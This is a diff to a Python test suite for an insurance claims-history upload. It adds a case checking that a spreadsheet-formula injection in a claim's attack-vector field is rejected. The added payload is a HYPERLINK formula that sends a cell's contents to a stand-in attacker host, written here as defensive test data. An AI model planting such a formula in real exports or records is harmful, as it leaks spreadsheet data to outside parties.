@@ -107,6 +107,9 @@ def broken(change: str) -> tuple[dict[str, Any], str]:
     if change == "amount":
         claims[1]["movements"][1]["amount"] = "12.345"
         return body, "claims.1.movements.1.amount"
+    if change == "attack vector a spreadsheet formula":
+        claims[1]["attack_vector"] = "=HYPERLINK(\"https://evil.example/?\"&B2,\"vpn\")"
+        return body, "claims.1.attack_vector"
     if change == "attack vector longer once lower-cased":
         claims[0]["attack_vector"] = "İ" * 300  # 600 characters in lower case
         return body, "claims.0.attack_vector"
@@ -130,6 +133,7 @@ async def test_a_bad_row_is_named_and_nothing_is_written_and_only_actuaries_and_
                     ).status_code == 403, role
         for change in ("industry", "currency", "duplicate", "unknown exposure",
                        "outside the period", "amount", "attack vector longer once lower-cased",
+                       "attack vector a spreadsheet formula",
                        "movement before the report", "future"):
             body, field = broken(change)
             response = await post_history(client, world, body)
